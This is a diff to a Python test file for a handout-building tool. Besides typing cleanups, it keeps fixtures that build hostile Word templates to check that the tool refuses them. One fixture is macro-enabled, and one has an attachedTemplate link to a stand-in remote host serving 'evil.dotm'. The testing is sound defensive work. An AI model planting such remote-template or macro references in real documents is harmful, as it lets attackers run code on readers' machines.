@@ -10,7 +10,7 @@ from pathlib import Path
 
 import docx
 import pytest
-from conftest import FIXTURES, copy_project, run_cli
+from conftest import FIXTURES, CliResult, copy_project, run_cli
 from docx.shared import Pt, RGBColor
 from docx_read import W, block_items, paragraph_text
 
@@ -65,7 +65,7 @@ def _rewrite(data: bytes, changes: dict[str, object]) -> bytes:
             member = source.read(item.filename)
             if change is None:
                 continue
-            target.writestr(item, change(member) if callable(change) else member)  # type: ignore[operator]
+            target.writestr(item, change(member) if callable(change) else member)
         for name, change in changes.items():
             if name not in source.namelist() and isinstance(change, bytes):
                 target.writestr(name, change)
@@ -91,7 +91,7 @@ _SETTINGS_RELS = (
     + _external("attachedTemplate", "https://198.51.100.7/evil.dotm")
     + b"</Relationships>"
 )
-HOSTILE = {
+HOSTILE: dict[str, tuple[dict[str, object], str]] = {
     "macro-enabled": (
         {
             "word/vbaProject.bin": bytes(512),
@@ -124,7 +124,7 @@ def project(base: Path, tmp_path: Path) -> Path:
     return Path(shutil.copytree(base, tmp_path / "project"))
 
 
-def build(project: Path, *extra: str) -> object:
+def build(project: Path, *extra: str) -> CliResult:
     args = ("--topic", "foot-care", "--only", "patient-handout-docx", "--brand", "testclinic", "--paper", "letter")
     return run_cli("build", *args, *extra, cwd=project)
 
@@ -134,12 +134,12 @@ def test_a_hostile_word_template_is_refused_at_its_brand_line(project: Path, nam
     changes, fragment = HOSTILE[name]
     (project / "content" / "brands" / "clinic.dotx").write_bytes(_rewrite(clinic_template(), changes))
     result = build(project)
-    assert result.code == 2, result.err  # type: ignore[attr-defined]
-    lines = [line for line in result.err.splitlines() if TEMPLATE_LINE in line]  # type: ignore[attr-defined]
-    assert len(lines) == 1, result.err  # type: ignore[attr-defined]
+    assert result.code == 2, result.err
+    lines = [line for line in result.err.splitlines() if TEMPLATE_LINE in line]
+    assert len(lines) == 1, result.err
     assert lines[0].startswith(f"{TEMPLATE_LINE}: the template content/brands/clinic.dotx "), lines[0]
     assert fragment in lines[0]
-    assert "Traceback" not in result.err  # type: ignore[attr-defined]
+    assert "Traceback" not in result.err
     assert not (project / "output" / "testclinic").exists()
 
 
@@ -189,7 +189,7 @@ def test_the_clinics_styles_restyle_the_handout_and_nothing_else_of_the_template
     for name in ("List Checkbox", "Callout Label", "Table Text", "Question", "Space After Box"):
         assert styles[name].base_style.name == "Normal" and styles[name].font.name is None
     # ... and the handout uses them.
-    headings = [p for p in document.paragraphs if p.style.name == "Heading 2"]
+    headings = [p for p in document.paragraphs if p.style is not None and p.style.name == "Heading 2"]
     assert [p.text for p in headings][:1] == ["What to do every day"]
     # Its page margins are the clinic's; its text, letterhead and editing lock are not carried over.
     assert document.sections[0].left_margin == Pt(50)
